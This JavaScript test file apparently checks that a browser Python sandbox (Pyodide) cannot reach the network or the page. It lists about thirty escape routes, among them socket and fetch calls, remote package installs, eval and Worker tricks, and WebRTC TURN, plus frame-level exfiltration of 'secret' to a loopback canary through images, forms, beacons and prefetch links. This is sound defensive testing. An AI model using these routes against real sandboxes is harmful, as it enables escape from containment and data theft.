// Code that tries to get out: every way in which Python and JavaScript could reach the network is
// tried against a listener on the loopback, which must receive nothing; nor may code access the
// page, its storage or another origin.

import { test } from "node:test";
import assert from "node:assert/strict";
import { neverBreached } from "../support/breach.mjs";
import { run, within } from "../support/browser.mjs";
import { sendDatagram, startCanary } from "../support/canary.mjs";
import { journey } from "../support/fixture.mjs";

const canary = await startCanary();
const { server, page } = await journey({ background: true });

/** What the canary has received once it has been tried: a request and a datagram. */
const TRIED = 2;

test("the listener counts connections and datagrams", async () => {
  await fetch(canary.url);
  assert.equal(canary.touched(), 1);
  await sendDatagram(canary.port);
  await canary.hears(TRIED);
  neverBreached(() => assert.deepEqual([canary.touched(), canary.heard()], [TRIED, TRIED]));
});

const ROUTES = {
  urllib: "import urllib.request\nurllib.request.urlopen(URL, timeout=3).read()",
  "http.client":
    "import http.client\nc = http.client.HTTPConnection(HOST, PORT, timeout=3)\nc.request('GET', '/')\nc.getresponse().read()",
  socket:
    "import socket\ns = socket.create_connection((HOST, PORT), timeout=3)\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\ns.recv(9)",
  asyncio:
    "import asyncio\nr, w = await asyncio.wait_for(asyncio.open_connection(HOST, PORT), 3)\nw.write(b'x')\nawait w.drain()\nawait r.read(1)",
  requests: "import requests\nrequests.get(URL, timeout=3).text",
  pandas: "import pandas as pd\npd.read_csv(URL)",
  pyfetch: "from pyodide.http import pyfetch\nawait (await pyfetch(URL)).string()",
  open_url: "from pyodide.http import open_url\nopen_url(URL).read()",
  micropip: "import micropip\nawait micropip.install(URL + '/x-1-py3-none-any.whl')",
  subprocess: "import subprocess\nsubprocess.run(['curl', URL], check=True)",
  "js fetch": "import js\nawait (await js.fetch(URL)).text()",
  "js XMLHttpRequest":
    "import js\nx = js.XMLHttpRequest.new()\nx.open('GET', URL, False)\nx.send()\nx.responseText or 1/0",
  "js WebSocket":
    "import js, asyncio\ndone = asyncio.get_event_loop().create_future()\nw = js.WebSocket.new(URL.replace('http', 'ws'))\nfrom pyodide.ffi import create_proxy\nw.onopen = create_proxy(lambda e: done.set_result('open'))\nw.onerror = create_proxy(lambda e: done.set_exception(OSError('refused')))\nawait asyncio.wait_for(done, 3)",
  "js EventSource":
    "import js, asyncio\ndone = asyncio.get_event_loop().create_future()\nfrom pyodide.ffi import create_proxy\ne = js.EventSource.new(URL)\ne.onerror = create_proxy(lambda e: done.done() or done.set_exception(OSError('refused')))\nawait asyncio.wait_for(done, 3)",
  "js WebTransport":
    "import js\nt = js.WebTransport.new(URL.replace('http', 'https'))\nawait t.ready",
  "js sendBeacon": "import js\nassert js.navigator.sendBeacon(URL, 'x')",
  "js import": "from pyodide.code import run_js\nawait run_js(f\"import('{URL}/x.mjs')\")",
  "js importScripts": "import js\njs.importScripts(URL + '/x.js')",
  "js eval":
    "from pyodide.code import run_js\nawait run_js(f\"fetch('{URL}').then(r => r.text())\")",
  "a function's constructor":
    "import js\nawait js.setTimeout.constructor(f\"return fetch('{URL}')\")()",
  "a timer with source text":
    "import js, asyncio\njs.setTimeout(f\"fetch('{URL}')\", 0)\nawait asyncio.sleep(0.3)\n1/0",
  "Pyodide's own loader":
    "import pyodide_js\nawait pyodide_js.loadPackage(URL + '/x_never-1-py3-none-any.whl')\nimport x_never",
  "a worker of its own":
    "from pyodide.code import run_js\nawait run_js(f\"new Promise((yes, no) => {{ const w = new Worker(URL.createObjectURL(new Blob([`fetch('{URL}').then(() => postMessage('out'), () => postMessage('no'))`]))); w.onmessage = e => e.data == 'out' ? yes(1) : no(new Error('no')); w.onerror = () => no(new Error('no')); }})\")",
  RTCPeerConnection:
    "from pyodide.code import run_js\nrun_js(f\"new RTCPeerConnection({{iceServers: [{{urls: 'turn:{HOST}:{PORT}?transport=tcp', username: 'a', credential: 'b'}}]}}).createDataChannel('x')\")",
  IndexedDB:
    "from pyodide.code import run_js\nawait run_js(\"new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = () => no(new Error('denied')); })\")",
  "the page's cache": "from pyodide.code import run_js\nawait run_js(\"caches.open('x')\")",
  "the page's document": "import js\njs.document.title",
  "the page through parent": "import js\njs.parent.location.href",
  "Pyodide's file system":
    "import pyodide_js\npyodide_js.FS.createLazyFile('/', 'lazy', URL, True, False)\nopen('/lazy').read()",
  "a navigation":
    "import js\njs.location.href = URL\nimport asyncio\nawait asyncio.sleep(0.3)\n1/0",
};

for (const [route, code] of Object.entries(ROUTES)) {
  test(`${route} fails, and nothing arrives`, async () => {
    const prelude = `HOST, PORT = '127.0.0.1', ${canary.port}\nURL = '${canary.url}'\n`;
    const outcome = await within(20_000, route, run(page, prelude + code, { timeoutMs: 10_000 }));
    // Some of these end the interpreter, which is acceptable.
    assert.match(outcome.status, /^(error|killed)$/, JSON.stringify(outcome.results));
    neverBreached(() => assert.equal(canary.touched(), TRIED));
  });
}

// What an attacker could try who had got from the worker into the frame's document, which nothing
// in the page allows. A blocked navigation may open a connection ahead of time; it must not send
// anything on it.
/** @type {Record<string, (url: string) => unknown>} */
const ATTEMPTS = {
  "an image": (url) => (document.body.innerHTML = `<img src="${url}/secret">`),
  "a frame of its own": (url) =>
    (document.body.innerHTML = `<iframe src="${url}/secret"></iframe>`),
  "a form": (url) => {
    document.body.innerHTML = `<form action="${url}/secret" method="post"></form>`;
    /** @type {HTMLFormElement} */ (document.querySelector("form")).submit();
  },
  "a window": (url) => void window.open(`${url}/secret`),
  "links to fetch ahead": (url) =>
    (document.head.innerHTML = ["prefetch", "preload", "modulepreload", "stylesheet", "icon"]
      .map((rel) => `<link rel="${rel}" as="image" href="${url}/secret">`)
      .join("")),
  "a beacon": (url) => void navigator.sendBeacon(`${url}/secret`, "secret"),
  "a fetch": (url) =>
    void fetch(`${url}/secret`, { method: "POST", body: "secret", mode: "no-cors" }).catch(
      () => {},
    ),
  "a refresh": (url) =>
    (document.head.innerHTML = `<meta http-equiv="refresh" content="0;url=${url}/secret">`),
  "a navigation": (url) => void (location.href = `${url}/secret`),
  "a peer connection": async (url) => {
    const { hostname, port } = new URL(url);
    const iceServers = [
      { urls: `turn:${hostname}:${port}?transport=tcp`, username: "secret", credential: "b" },
      { urls: `stun:${hostname}:${port}` },
    ];
    const peer = new RTCPeerConnection({ iceServers });
    peer.createDataChannel("secret");
    await peer.setLocalDescription(await peer.createOffer());
  },
  "the page's own address": () =>
    void Object.assign(/** @type {Window} */ (top).location, { href: "about:blank" }),
};

for (const [name, attempt] of Object.entries(ATTEMPTS)) {
  test(`the frame's document cannot send anything by ${name}`, async () => {
    await page.evaluate(async () => {
      const frame = document.createElement("iframe");
      for (const [name, value] of Object.entries({
        sandbox: "allow-scripts",
        allow: "cross-origin-isolated",
        src: "/kernel/frame",
        name: "second",
      }))
        frame.setAttribute(name, value);
      const loaded = new Promise((resolve) => (frame.onload = resolve));
      document.body.append(frame);
      await loaded;
    });
    const frame = /** @type {import("playwright-core").Frame} */ (page.frame({ name: "second" }));
    assert.equal(await frame.evaluate(() => self.origin), "null");
    await frame.evaluate(attempt, canary.url).catch(() => {});
    // There is no event to wait for; what arrives even later fails the next test.
    await page.waitForTimeout(100);
    neverBreached(() => assert.equal(canary.heard(), TRIED));
    assert.equal(page.url(), `${server.url}/`);
    await page.evaluate(() =>
      /** @type {Element} */ (document.querySelector('iframe[name="second"]')).remove(),
    );
  });
}
